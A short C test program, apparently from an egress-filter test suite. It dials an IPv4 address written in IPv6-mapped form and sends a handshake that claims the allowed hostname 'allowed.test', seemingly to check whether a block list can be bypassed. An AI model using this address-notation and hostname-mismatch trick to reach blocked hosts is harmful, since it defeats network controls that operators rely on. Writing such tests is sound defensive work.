/* An IPv4 address that is written as an IPv6 one. */
#include "attack.h"
int main(int c, char **v) {
    unsigned char first[512];
    int fd = dial("::ffff:45.0.0.1", 443);
    if (fd < 0) finish(0);
    send(fd, first, hello(first, "allowed.test"), 0);
    finish(gets_prize(fd));
}
